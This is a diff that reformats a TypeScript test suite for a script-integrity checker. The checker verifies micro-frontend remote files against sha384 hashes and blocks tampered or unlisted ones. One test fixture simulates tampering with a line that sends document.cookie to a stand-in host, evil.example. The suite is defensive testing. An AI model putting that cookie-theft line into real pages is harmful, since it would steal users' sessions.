@@ -26,7 +26,10 @@ function serving(files: Record<string, string>) {
   return vi.fn(async (request: Request) => {
     const path = new URL(request.url).pathname
     return path in files
-      ? new Response(files[path], { status: 200, headers: { 'content-type': 'text/javascript', etag: '"v1"' } })
+      ? new Response(files[path], {
+          status: 200,
+          headers: { 'content-type': 'text/javascript', 'etag': '"v1"' },
+        })
       : new Response('not found', { status: 404 })
   })
 }
@@ -35,14 +38,25 @@ const request = (path: string) => new Request(`${ORIGIN}${path}`)
 
 describe('integrity verification', () => {
   it('computes the same digest as Node for sha384 SRI values, ignoring other algorithms', async () => {
-    await expect(verifyBytes('/remotes/contacts/remoteEntry.js', new TextEncoder().encode(entryCode).buffer as ArrayBuffer, map)).resolves.toEqual({ ok: true })
+    await expect(
+      verifyBytes(
+        '/remotes/contacts/remoteEntry.js',
+        new TextEncoder().encode(entryCode).buffer as ArrayBuffer,
+        map
+      )
+    ).resolves.toEqual({ ok: true })
     expect(sha384Digests('sha256-abc sha384-def sha384-ghi?x')).toEqual(['def', 'ghi'])
-    await expect(verifyBytes('/remotes/x.js', new ArrayBuffer(1), { '/remotes/x.js': 'sha256-abc' })).resolves.toEqual({ ok: false, reason: 'unsupported-algorithm' })
+    await expect(
+      verifyBytes('/remotes/x.js', new ArrayBuffer(1), { '/remotes/x.js': 'sha256-abc' })
+    ).resolves.toEqual({ ok: false, reason: 'unsupported-algorithm' })
   })
 
   it('hands over a listed file whose bytes match, unchanged and with its headers', async () => {
     const fetch = serving({ '/remotes/contacts/remoteEntry.js': entryCode })
-    const response = await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), { fetch, loadMap: async () => map })
+    const response = await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), {
+      fetch,
+      loadMap: async () => map,
+    })
     expect(response.status).toBe(200)
     expect(await response.text()).toBe(entryCode)
     expect(response.headers.get('content-type')).toBe('text/javascript')
@@ -50,8 +64,13 @@ describe('integrity verification', () => {
   })
 
   it('blocks a tampered file with a 403 that cannot run as a script', async () => {
-    const fetch = serving({ '/remotes/contacts/assets/module-abc.js': `${chunkCode};fetch("https://evil.example/steal?c="+document.cookie)` })
-    const response = await handleRemoteRequest(request('/remotes/contacts/assets/module-abc.js'), { fetch, loadMap: async () => map })
+    const fetch = serving({
+      '/remotes/contacts/assets/module-abc.js': `${chunkCode};fetch("https://evil.example/steal?c="+document.cookie)`,
+    })
+    const response = await handleRemoteRequest(request('/remotes/contacts/assets/module-abc.js'), {
+      fetch,
+      loadMap: async () => map,
+    })
     expect(response.status).toBe(403)
     expect(response.headers.get('content-type')).toMatch(/^text\/plain/)
     expect(response.headers.get(BLOCKED_HEADER)).toBe('mismatch')
@@ -60,27 +79,60 @@ describe('integrity verification', () => {
 
   it('blocks a file the manifest does not list, without even fetching it', async () => {
     const fetch = serving({ '/remotes/contacts/assets/injected.js': 'alert(1)' })
-    const response = await handleRemoteRequest(request('/remotes/contacts/assets/injected.js'), { fetch, loadMap: async () => map })
+    const response = await handleRemoteRequest(request('/remotes/contacts/assets/injected.js'), {
+      fetch,
+      loadMap: async () => map,
+    })
     expect(response.status).toBe(403)
     expect(response.headers.get(BLOCKED_HEADER)).toBe('unlisted')
     expect(fetch).not.toHaveBeenCalled()
   })
 
   it('keys the map on the path: a query string does not make a listed file unlisted, another path is not allowed', async () => {
-    const fetch = serving({ '/remotes/contacts/remoteEntry.js': entryCode, '/remotes/other/remoteEntry.js': entryCode })
-    expect((await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js?v=2'), { fetch, loadMap: async () => map })).status).toBe(200)
-    expect((await handleRemoteRequest(request('/remotes/other/remoteEntry.js'), { fetch, loadMap: async () => map })).status).toBe(403)
+    const fetch = serving({
+      '/remotes/contacts/remoteEntry.js': entryCode,
+      '/remotes/other/remoteEntry.js': entryCode,
+    })
+    expect(
+      (
+        await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js?v=2'), {
+          fetch,
+          loadMap: async () => map,
+        })
+      ).status
+    ).toBe(200)
+    expect(
+      (
+        await handleRemoteRequest(request('/remotes/other/remoteEntry.js'), {
+          fetch,
+          loadMap: async () => map,
+        })
+      ).status
+    ).toBe(403)
   })
 
   it('fails closed with no map, on a network failure, and passes error statuses on without a body', async () => {
     const fetch = serving({ '/remotes/contacts/remoteEntry.js': entryCode })
-    expect((await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), { fetch, loadMap: async () => ({}) })).status).toBe(403)
+    expect(
+      (
+        await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), {
+          fetch,
+          loadMap: async () => ({}),
+        })
+      ).status
+    ).toBe(403)
     const offline = vi.fn(async () => {
       throw new TypeError('Failed to fetch')
     })
-    const unreachable = await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), { fetch: offline, loadMap: async () => map })
+    const unreachable = await handleRemoteRequest(request('/remotes/contacts/remoteEntry.js'), {
+      fetch: offline,
+      loadMap: async () => map,
+    })
     expect(unreachable.headers.get(BLOCKED_HEADER)).toBe('no-response')
-    const missing = await handleRemoteRequest(request('/remotes/contacts/assets/module-abc.js'), { fetch: serving({}), loadMap: async () => map })
+    const missing = await handleRemoteRequest(request('/remotes/contacts/assets/module-abc.js'), {
+      fetch: serving({}),
+      loadMap: async () => map,
+    })
     expect(missing.status).toBe(404)
     expect(await missing.text()).toBe('')
   })
@@ -88,7 +140,9 @@ describe('integrity verification', () => {
   it('only guards same-origin paths under /remotes/', () => {
     expect(isRemoteUrl(new URL(`${ORIGIN}/remotes/contacts/remoteEntry.js`), ORIGIN)).toBe(true)
     expect(isRemoteUrl(new URL(`${ORIGIN}/assets/index.js`), ORIGIN)).toBe(false)
-    expect(isRemoteUrl(new URL('https://cdn.example/remotes/contacts/remoteEntry.js'), ORIGIN)).toBe(false)
+    expect(
+      isRemoteUrl(new URL('https://cdn.example/remotes/contacts/remoteEntry.js'), ORIGIN)
+    ).toBe(false)
   })
 })
 
@@ -108,16 +162,23 @@ describe('integrity store', () => {
   it('gives a page that sent nothing an empty map (so everything is blocked) and keeps only well-formed entries', async () => {
     const store = createIntegrityStore(memoryPersistence())
     await expect(store.load('page-1')).resolves.toEqual({})
-    await store.set('page-1', { '/remotes/a/remoteEntry.js': 'sha384-a', '/assets/not-a-remote.js': 'sha384-x' }, ['page-1'])
+    await store.set(
+      'page-1',
+      { '/remotes/a/remoteEntry.js': 'sha384-a', '/assets/not-a-remote.js': 'sha384-x' },
+      ['page-1']
+    )
     expect(await store.load('page-1')).toEqual({ '/remotes/a/remoteEntry.js': 'sha384-a' })
     expect(await store.load('page-2')).toEqual({})
   })
 
-  it('checks each page against its own manifest, replaces a page\'s map, and forgets closed pages', async () => {
+  it("checks each page against its own manifest, replaces a page's map, and forgets closed pages", async () => {
     const persistence = memoryPersistence()
     const store = createIntegrityStore(persistence)
     await store.set('org-1-tab', { '/remotes/a/remoteEntry.js': 'sha384-a' }, ['org-1-tab'])
-    await store.set('org-2-tab', { '/remotes/b/remoteEntry.js': 'sha384-b' }, ['org-1-tab', 'org-2-tab'])
+    await store.set('org-2-tab', { '/remotes/b/remoteEntry.js': 'sha384-b' }, [
+      'org-1-tab',
+      'org-2-tab',
+    ])
     expect(await store.load('org-1-tab')).toEqual({ '/remotes/a/remoteEntry.js': 'sha384-a' })
     await store.set('org-1-tab', { '/remotes/c/remoteEntry.js': 'sha384-c' }, ['org-1-tab'])
     expect(await store.load('org-1-tab')).toEqual({ '/remotes/c/remoteEntry.js': 'sha384-c' })
